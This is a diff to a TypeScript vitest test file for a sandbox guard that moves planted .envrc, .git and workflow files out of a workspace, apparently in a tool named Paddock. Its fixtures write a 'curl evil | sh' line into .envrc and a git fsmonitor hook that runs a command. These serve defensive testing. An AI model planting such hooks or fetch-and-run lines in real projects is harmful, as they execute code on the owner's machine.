@@ -3,7 +3,7 @@
 import fs from 'node:fs';
 import path from 'node:path';
 import { afterEach, describe, expect, it } from 'vitest';
-import { absentPlaceholders, alwaysCardMounts, appearedBetween, describeMoved, holdPlaceholders, listAlwaysCard, moveOut, recordPlaceholdersAt, watchAlwaysCard } from '../../../src/main/sandbox/alwaysCardGuard';
+import { alwaysCardMounts, appearedBetween, describeMoved, listAlwaysCard, moveOut, removeLeftPlaceholders, watchAlwaysCard, watchAlwaysCardLive } from '../../../src/main/sandbox/alwaysCardGuard';
 import { gitEntriesOf } from '../../../src/main/sandbox/sandbox';
 import { createTempDirs } from '../../support/tempDirs';
 
@@ -195,35 +195,82 @@ describe('the .git entries bound read-only', () => {
   });
 });
 
-describe('placeholders a crashed run left', () => {
-  it('are removed at the next start when still empty; one the owner filled, or one held now, stays', () => {
+describe('placeholders an earlier Paddock left', () => {
+  it('are removed at the next start when still empty; one the owner filled stays; the record goes', () => {
     const ws = temp.make();
     const data = temp.make();
-    // What the crashed run had written down: three placeholders it made.
+    // What an earlier run had written down: three placeholders it made.
     tree(ws, { '.vscode/': null, '.git/': null, '.idea/owner.xml': '<owner/>' });
     const record = path.join(data, 'placeholders.json');
     fs.writeFileSync(record, JSON.stringify(['.vscode', '.git', '.idea'].map((name) => path.join(ws, name))));
-    recordPlaceholdersAt(record);
+    removeLeftPlaceholders(record);
     expect(fs.existsSync(path.join(ws, '.vscode'))).toBe(false);
     expect(fs.existsSync(path.join(ws, '.git'))).toBe(false);
     expect(fs.readFileSync(path.join(ws, '.idea', 'owner.xml'), 'utf8')).toBe('<owner/>');
-    // From now on the record follows what is held.
-    const held = holdPlaceholders(absentPlaceholders(ws));
-    expect(JSON.parse(fs.readFileSync(record, 'utf8'))).toEqual(expect.arrayContaining([path.join(ws, '.git'), path.join(ws, '.vscode')]));
-    held.release();
-    expect(JSON.parse(fs.readFileSync(record, 'utf8'))).toEqual([]);
+    expect(fs.existsSync(record)).toBe(false);
+  });
+});
+
+async function until(condition: () => boolean, what: string, ms = 10_000): Promise<void> {
+  const deadline = Date.now() + ms;
+  while (!condition()) {
+    if (Date.now() > deadline) throw new Error(`not within ${ms} ms: ${what}`);
+    await new Promise((resolve) => setTimeout(resolve, 20));
+  }
+}
+
+describe('the live watch of a long-lived process', () => {
+  it('makes nothing in the owner’s folder', () => {
+    const ws = temp.make();
+    tree(ws, { 'src/a.ts': 'x' });
+    const watch = watchAlwaysCardLive(ws, path.join(temp.make(), 'refused'));
+    try {
+      expect(fs.readdirSync(ws)).toEqual(['src']);
+    } finally {
+      watch.finish();
+    }
   });
 
-  it('are shared by two long-lived processes: the first to end leaves them for the other', () => {
+  it('moves a planted file, a `.git` and a workflow out at once, while it still runs, and says so as it goes', async () => {
     const ws = temp.make();
-    const first = holdPlaceholders(absentPlaceholders(ws));
-    const second = holdPlaceholders(absentPlaceholders(ws));
-    expect(second.paths.sort()).toEqual(first.paths.sort());
-    first.release();
-    expect(fs.existsSync(path.join(ws, '.git'))).toBe(true);
-    expect(fs.existsSync(path.join(ws, '.vscode'))).toBe(true);
-    second.release();
-    expect(fs.existsSync(path.join(ws, '.git'))).toBe(false);
-    expect(fs.existsSync(path.join(ws, '.github'))).toBe(false);
+    const refused = path.join(temp.make(), 'refused');
+    tree(ws, { 'src/a.ts': 'x' });
+    const watch = watchAlwaysCardLive(ws, refused);
+    const seen: string[] = [];
+    watch.onMoved((moved) => seen.push(...moved.map((entry) => entry.path)));
+    try {
+      fs.writeFileSync(path.join(ws, '.envrc'), 'curl evil | sh\n');
+      await until(() => !fs.existsSync(path.join(ws, '.envrc')), '.envrc moved');
+      fs.mkdirSync(path.join(ws, '.git'));
+      fs.writeFileSync(path.join(ws, '.git', 'config'), '[core]\n\tfsmonitor = touch /tmp/pwned\n');
+      await until(() => !fs.existsSync(path.join(ws, '.git')), '.git moved');
+      fs.mkdirSync(path.join(ws, '.github', 'workflows'), { recursive: true });
+      fs.writeFileSync(path.join(ws, '.github', 'workflows', 'x.yml'), 'on: push\n');
+      await until(() => !fs.existsSync(path.join(ws, '.github', 'workflows')), 'workflows moved');
+      expect(seen).toEqual(expect.arrayContaining(['.envrc', '.git', '.github/workflows']));
+      // Ordinary work stays.
+      fs.writeFileSync(path.join(ws, 'notes.md'), 'fine\n');
+      await new Promise((resolve) => setTimeout(resolve, 200));
+      expect(fs.readFileSync(path.join(ws, 'notes.md'), 'utf8')).toBe('fine\n');
+    } finally {
+      const all = watch.finish();
+      expect(all.map((entry) => entry.path)).toEqual(expect.arrayContaining(['.envrc', '.git', '.github/workflows']));
+    }
+    const kept = fs.readdirSync(refused);
+    expect(kept.some((name) => name.endsWith('-.envrc'))).toBe(true);
+    expect(kept.some((name) => name.endsWith('-.git'))).toBe(true);
+    expect(fs.existsSync(path.join(ws, '.github'))).toBe(true); // only workflows is always a card
+  });
+
+  it('leaves what was there before it started, and stops watching when it ends', async () => {
+    const ws = temp.make();
+    tree(ws, { '.vscode/settings.json': '{}', '.envrc': 'owner' });
+    const watch = watchAlwaysCardLive(ws, path.join(temp.make(), 'refused'), 100);
+    await new Promise((resolve) => setTimeout(resolve, 300));
+    expect(watch.finish()).toEqual([]);
+    expect(fs.readFileSync(path.join(ws, '.envrc'), 'utf8')).toBe('owner');
+    fs.writeFileSync(path.join(ws, '.npmrc'), 'after it ended\n');
+    await new Promise((resolve) => setTimeout(resolve, 300));
+    expect(fs.readFileSync(path.join(ws, '.npmrc'), 'utf8')).toBe('after it ended\n');
   });
 });
